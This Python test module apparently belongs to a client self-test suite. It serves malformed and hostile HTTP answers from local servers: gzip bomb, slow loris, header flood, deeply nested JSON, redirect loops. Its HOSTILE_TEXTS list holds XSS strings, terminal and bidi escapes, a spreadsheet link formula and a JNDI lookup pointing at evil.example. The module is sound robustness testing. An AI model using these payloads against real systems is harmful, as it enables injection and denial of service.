"""Servers for bad input, each named after what is wrong with it; each is a context manager that gives a base URL.

They run on daemon threads on a free port of 127.0.0.1. What is endless ends with the context, with the client, or after
two minutes.
"""

from __future__ import annotations

import contextlib
import functools
import json
import socket
import zlib
from typing import TYPE_CHECKING, Any

from ttck.suites.selftest.sellers.garbage_http import BASE, Call, http_server, tcp_server

if TYPE_CHECKING:
    import threading
    from collections.abc import Callable, Iterator
    from contextlib import AbstractContextManager

_MEGABYTE = 1024 * 1024
HUGE_BODY = 50 * _MEGABYTE
BOMB = 120 * _MEGABYTE
DEPTH = 10_000
LONG_TEXT = _MEGABYTE
HOSTILE_TEXTS = (
    "<script>alert('ttck')</script>",
    "</style></script><img src=x onerror=alert(1)>",
    "\u001b[2J\u001b[31mred\u001b[0m\u0007",
    "\u202eevil\u202c \u2066hidden\u2069",
    "\u0000\u0001\u0008\u000b\u001f\u007f\u0085\u2028",
    "]]></testcase><failure/>&lt;&amp;",
    '=HYPERLINK("http://evil.example")',
    "{{ 7 * 7 }} ${jndi:ldap://evil.example} %s%n",
    "\ud800 lone surrogate",
)
_PERSON = {"name": "Desk", "number": "+1 555 0100", "emailAddress": "desk@seller.example"}
_PLAIN: dict[str, Any] = {
    "id": "G-1",
    "externalId": "x",
    "description": "plain",
    "severity": "minor",
    "sellerSeverity": "minor",
    "priority": "low",
    "sellerPriority": "low",
    "observedImpact": "degraded",
    "ticketType": "assistance",
    "status": "acknowledged",
    "creationDate": "2026-01-01T00:00:00Z",
    "relatedEntity": [{"id": "PRODUCT-1", "@referredType": "Product", "role": "affected"}],
    "relatedContactInformation": [{**_PERSON, "role": "reporterContact"}, {**_PERSON, "role": "sellerTicketContact"}],
}


def _routed(call: Call, ticket: bytes) -> tuple[int, bytes]:
    """What a plain seller would answer, with the given ticket wherever a ticket belongs."""
    if call.method == "DELETE" or call.path.endswith(("/cancel", "/close", "/reopen")):
        return 204, b""
    if call.path.startswith("/hub"):
        return (201 if call.method == "POST" else 200), b'{"id": "1", "callback": "http://127.0.0.1:9"}'
    if call.method == "POST":
        return 201, ticket
    return 200, (b"[" + ticket + b"]" if call.path == "/troubleTicket" else ticket)


def _json_with(ticket: bytes) -> AbstractContextManager[str]:
    return http_server(lambda call: call.answer(*_routed(call, ticket)))


def _plain_text(**changes: Any) -> bytes:
    return json.dumps({**_PLAIN, **changes}).encode()


@contextlib.contextmanager
def refused() -> Iterator[str]:
    """A port that nobody listens on."""
    with socket.socket() as closed:
        closed.bind(("127.0.0.1", 0))
        yield f"http://127.0.0.1:{closed.getsockname()[1]}{BASE}"


@contextlib.contextmanager
def tls_error() -> Iterator[str]:
    """An https address behind which somebody babbles."""

    def babble(connection: socket.socket, stopping: threading.Event) -> None:
        del stopping
        connection.recv(65536)
        connection.sendall(b"SSH-2.0-OpenSSH_9.9\r\n" + bytes(range(256)))
        connection.shutdown(socket.SHUT_WR)

    with tcp_server(babble) as port:
        yield f"https://127.0.0.1:{port}{BASE}"


def redirect_loop() -> AbstractContextManager[str]:
    """Every address sends to itself."""
    return http_server(lambda call: call.answer(302, b"", lines=(f"Location: {BASE}{call.path}",)))


def html_instead_of_json() -> AbstractContextManager[str]:
    """A login page with status 200 for everything."""
    page = b"<!DOCTYPE html><html><head><title>Sign in</title></head><body><form><input name=user></form></body></html>"
    return http_server(lambda call: call.answer(200, page, media="text/html; charset=utf-8"))


def huge_body() -> AbstractContextManager[str]:
    """A ticket with a description of 50 MB."""

    def answer(call: Call) -> None:
        start, end = b'{"id": "G-1", "description": "', b'"}'
        length = len(start) + HUGE_BODY + len(end)
        call.head(200, "Content-Type: application/json", f"Content-Length: {length}")
        call.send(start)
        for _ in range(HUGE_BODY // _MEGABYTE):
            call.send(b"A" * _MEGABYTE)
        call.send(end)

    return http_server(answer)


def endless_body() -> AbstractContextManager[str]:
    """A chunked answer that trickles and never ends."""

    def answer(call: Call) -> None:
        call.head(200, "Content-Type: application/json", "Transfer-Encoding: chunked")
        call.send(b'1\r\n"\r\n')
        for _ in call.ticks(0.02):
            call.send(b"8\r\nendless \r\n")

    return http_server(answer)


def truncated_body() -> AbstractContextManager[str]:
    """An answer that promises more than it sends."""

    def answer(call: Call) -> None:
        status, body = _routed(call, _plain_text())
        call.head(status, "Content-Type: application/json", "Content-Length: 5000")
        call.send(body[: len(body) // 2])

    return http_server(answer)


def stall() -> AbstractContextManager[str]:
    """A request is taken and never answered."""

    def answer(call: Call) -> None:
        for _ in call.ticks(1.0):
            pass

    return http_server(answer)


def stall_after_headers() -> AbstractContextManager[str]:
    """The headers come at once, the body never."""

    def answer(call: Call) -> None:
        call.head(200, "Content-Type: application/json", "Content-Length: 1000")
        for _ in call.ticks(1.0):
            pass

    return http_server(answer)


def server_error() -> AbstractContextManager[str]:
    """500 on everything, with an error body."""
    body = json.dumps({"code": "internalError", "reason": "java.lang.NullPointerException"}).encode()
    return http_server(lambda call: call.answer(500, body))


def hostile_ticket(*, depth: int = 0) -> AbstractContextManager[str]:
    """A well-formed ticket full of markup, control characters, terminal escapes, bidi tricks and very long text.

    With `depth`, one attribute holds lists nested that deep.
    """
    notes = [
        {"id": text, "author": text, "date": "2026-01-01T00:00:00Z", "source": "seller", "text": text}
        for text in (*HOSTILE_TEXTS, "L" * LONG_TEXT)
    ]
    extra = {text: text for text in HOSTILE_TEXTS}
    ticket = _plain_text(id=HOSTILE_TEXTS[0], description=" ".join(HOSTILE_TEXTS), status=HOSTILE_TEXTS[1], note=notes, **extra)
    if depth:
        ticket = ticket[:-1] + b', "nested": ' + b"[" * depth + b"]" * depth + b"}"
    lines = ("X-Trace: <script>alert(2)</script>", "X-Total-Count: \u00ff\u001b[31m")
    return http_server(lambda call: call.answer(*_routed(call, ticket), lines=lines))


def deep_json() -> AbstractContextManager[str]:
    """The hostile ticket with lists nested 10,000 levels deep."""
    return hostile_ticket(depth=DEPTH)


def invalid_utf8() -> AbstractContextManager[str]:
    """A ticket whose description is not UTF-8."""
    return _json_with(_plain_text(description="@@").replace(b"@@", b"\xff\xfe\xc3("))


def bom_json() -> AbstractContextManager[str]:
    """A good ticket behind a byte order mark."""

    def answer(call: Call) -> None:
        status, body = _routed(call, _plain_text())
        call.answer(status, b"\xef\xbb\xbf" + body)

    return http_server(answer)


def wrong_content_encoding() -> AbstractContextManager[str]:
    """A plain body that is said to be gzip."""
    return http_server(lambda call: call.answer(*_routed(call, _plain_text()), lines=("Content-Encoding: gzip",)))


@functools.cache
def _bomb() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    parts = [packer.compress(b'{"id": "G-1", "description": "')]
    parts += [packer.compress(b"A" * _MEGABYTE) for _ in range(BOMB // _MEGABYTE)]
    parts += [packer.compress(b'"}'), packer.flush()]
    return b"".join(parts)


def gzip_bomb() -> AbstractContextManager[str]:
    """About a hundred kilobytes that unpack to 120 MB."""
    return http_server(lambda call: call.answer(200, _bomb(), lines=("Content-Encoding: gzip",)))


def header_flood() -> AbstractContextManager[str]:
    """A good ticket under 300 headers of 32 KB each."""
    flood = tuple(f"X-Flood-{number}: {'f' * 32_000}" for number in range(300))
    return http_server(lambda call: call.answer(*_routed(call, _plain_text()), lines=flood))


def slow_loris() -> AbstractContextManager[str]:
    """A good answer, one byte a second."""

    def answer(call: Call) -> None:
        _, body = _routed(call, _plain_text())
        text = b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: %d\r\n\r\n" % len(body) + body
        for byte, _ in zip(text, call.ticks(1.0), strict=False):
            call.send(bytes((byte,)))

    return http_server(answer)


def duplicate_keys_json() -> AbstractContextManager[str]:
    """A ticket that has two ids and two states."""
    return _json_with(_plain_text()[:-1] + b', "id": "G-2", "status": "closed"}')


def nan_json() -> AbstractContextManager[str]:
    """A ticket with the numbers NaN, Infinity and -Infinity, which JSON does not have."""
    return _json_with(_plain_text(amounts=[float("nan"), float("inf"), float("-inf")]))


def huge_number() -> AbstractContextManager[str]:
    """A ticket with an integer of 5,000 digits and a number beyond any float."""
    return _json_with(_plain_text()[:-1] + b', "big": ' + b"9" * 5000 + b', "beyond": 1e400}')


GARBAGE: dict[str, Callable[[], AbstractContextManager[str]]] = {
    maker.__name__: maker
    for maker in (
        *(refused, tls_error, redirect_loop, html_instead_of_json, huge_body, endless_body, truncated_body, stall),
        *(stall_after_headers, server_error, hostile_ticket, deep_json, invalid_utf8, bom_json, wrong_content_encoding),
        *(gzip_bomb, header_flood, slow_loris, duplicate_keys_json, nan_json, huge_number),
    )
}
